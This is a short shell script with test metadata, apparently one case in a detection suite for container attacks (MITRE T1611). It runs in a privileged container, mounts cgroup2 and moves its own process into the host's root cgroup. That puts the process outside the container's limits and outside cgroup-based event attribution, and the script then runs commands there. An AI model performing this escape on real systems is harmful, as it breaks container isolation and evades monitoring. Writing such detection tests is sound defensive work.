# category: container-escape
# technique: T1611
# art: no
# developed: yes
# expect: privileged-mount-in-container
# opts: --privileged
# desc: a privileged container mounts the cgroup2 hierarchy and writes its own pid into the root cgroup's cgroup.procs: the process leaves the container's cgroup for the host's, out of its limits and out of whatever attributes events to the container by cgroup, then runs a command there
mkdir -p /tmp/cg
mount -t cgroup2 none /tmp/cg || { echo "cgroup2 mount refused"; exit 0; }
echo "before: $(grep '^0::' /proc/self/cgroup)"
sh -c 'echo $$ > /tmp/cg/cgroup.procs && echo "after: $(grep "^0::" /proc/self/cgroup)" && id && cat /proc/self/status | grep -E "^(Name|Pid)"' || echo "move refused"
umount /tmp/cg
